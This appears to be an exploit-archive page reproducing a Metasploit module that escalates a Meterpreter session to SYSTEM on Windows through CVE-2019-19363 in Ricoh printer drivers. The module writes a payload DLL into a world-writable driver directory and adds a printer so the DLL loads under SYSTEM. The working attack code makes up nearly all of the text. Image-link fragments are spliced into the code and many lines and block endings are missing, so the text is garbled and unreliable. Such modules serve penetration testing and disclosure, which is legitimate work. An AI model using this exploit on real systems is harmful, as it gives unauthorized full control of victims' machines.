Ricoh Driver Privilege Escalation

This Metasploit module leverages the prnmngr.vbs script to add and delete printers. Multiple runs of this module may be required given successful exploitation is time-sensitive.

MD5 | fe0a9a6351caebe61c5e0ce2e0b572ad

# This module requires Metasploit:
# Current source:

require 'msf/core/exploit/exe'

class MetasploitModule < Msf::Exploit::LocalRank = NormalRanking

include Msf::Post::File
include Msf::Exploit::EXE
include Msf::Post::Windows::Priv
include Msf::Exploit::FileDropper

def initialize(info = {})
'Name' => 'Ricoh Driver Privilege Escalation',
'Description' => %q(
Various Ricoh printer drivers allow escalation of
privileges on Windows systems.

For vulnerable drivers, a low-privileged user can
read/write files within the `RICOH_DRV` directoryand its subdirectories.

`PrintIsolationHost.exe`, a Windows process running
as NT AUTHORITY\SYSTEM, loads driver-specific DLLs
during the installation of a printer. A user can
elevate to SYSTEM by writing a malicious DLL to
the vulnerable driver directory and adding a new
printer with a vulnerable driver.

This module leverages the `prnmngr.vbs` script
to add and delete printers. Multiple runs of this
module may be required given successful exploitation
is time-sensitive.
'License' => MSF_LICENSE,
'Author' => [
'Alexander Pudwill', # discovery & PoC
'Pentagrid AG', # PoC
'Shelby Pace' # msf module
'References' =>
[ 'CVE', '2019-19363'],
[ 'URL', '']
'Arch' => [ ARCH_X86, ARCH_X64 ],
'Platform' => 'win',
'Payload' =>
'SessionTypes' => [ 'meterpreter' ],
'Targets' =>
'Windows', { 'Arch' => [ ARCH_X86, ARCH_X64 ] }
'Notes' =>
'SideEffects' => [ ARTIFACTS_ON_DISK ],
'Reliability' => [ UNRELIABLE_SESSION ],
'Stability' => [ SERVICE_RESOURCE_LOSS ]
'DisclosureDate' => "Jan 22 2020",
'DefaultTarget' => 0

self.needs_cleanup = true

register_advanced_options(['ForceExploit', [ false, 'Override check result', false ])

def check
dir_name = "C:\\ProgramData\\RICOH_DRV"

return CheckCode::Safe('No Ricoh driver directory found') unless directory?(dir_name)
driver_names =dir(dir_name)

return CheckCode::Detected("Detected Ricoh driver directory, but no installed drivers") unless driver_names.length

vulnerable = false
driver_names.each do |driver_name|
full_path = "#{dir_name}\\#{driver_name}\\_common\\dlz"
next unless directory?(full_path)
@driver_path = full_path

res = cmd_exec("icacls \"#{@driver_path}\"")
next unless res.include?('Everyone:')
next unless res.match(/\(F\)/)

vulnerable = truereturn CheckCode::Detected('Ricoh driver directory does not have full permissions') unless vulnerable

vprint_status("Vulnerable driver directory: #{@driver_path}")
CheckCode::Appears('Ricoh driver directory has full permissions')

def add_printer(driver_name)
fail_with(Failure::NotFound, 'Printer driver script not found') unless file?(@script_path)

dll_data = generate_payload_dll
dll_path = "#{@driver_path}\\headerfooter.dll"

temp_path = expand_path('%TEMP%\\headerfooter.dll')
vprint_status("Writing dll to #{temp_path}")

bat_file_path = expand_path("%TEMP%\\#{Rex::Text.rand_text_alpha(5..9)}.bat")
cp_cmd = "copy /y \"#{temp_path}\" \"#{dll_path}\""
bat_file = <<~HEREDOC
#{cp_cmd} && goto :repeat

write_file(bat_file_path, bat_file)
write_file(temp_path, dll_data)
register_files_for_cleanup(bat_file_path, temp_path)script_cmd = "cscript \"#{@script_path}\" -a -p \"#{@printer_name}\" -m \"#{driver_name}\" -r \"lpt1:\""
bat_cmd = "cmd.exe /c \"#{bat_file_path}\""
print_status("Adding printer #{@printer_name}...")
client.sys.process.execute(script_cmd, nil, { 'Hidden' => true })
vprint_status("Executing script...")
rescue Rex::Post::Meterpreter::RequestError => e
e_log("#{e.class} #{e.message}\n#{e.backtrace * "\n"}")

def exploit
fail_with(Failure::None, 'Already running as SYSTEM') if is_system?

fail_with(Failure::None, 'Must have a Meterpreter session to run this module') unless session.type == 'meterpreter'

if sysinfo['Architecture'] != payload.arch.first
fail_with(Failure::BadConfig, 'The payload should use the same architecture as the target driver')

@driver_path = ''
unless check == CheckCode::Appears || datastore['ForceExploit']
fail_with(Failure::NotVulnerable, 'Target is not vulnerable. Set ForceExploit to override')

@printer_name = Rex::Text.rand_text_alpha(5..9)
@script_path = "C:\\Windows\\System32\\Printing_Admin_Scripts\\en-US\\prnmngr.vbs"
drvr_name = @driver_path.split('\\')
drvr_name_idx = drvr_name.index('RICOH_DRV') + 1
drvr_name = drvr_name[drvr_name_idx]


def cleanup
print_status("Deleting printer #{@printer_name}")
delete_cmd = "cscript \"#{@script_path}\" -d -p \"#{@printer_name}\""client.sys.process.execute(delete_cmd, nil,{ 'Hidden' => true })

Related Posts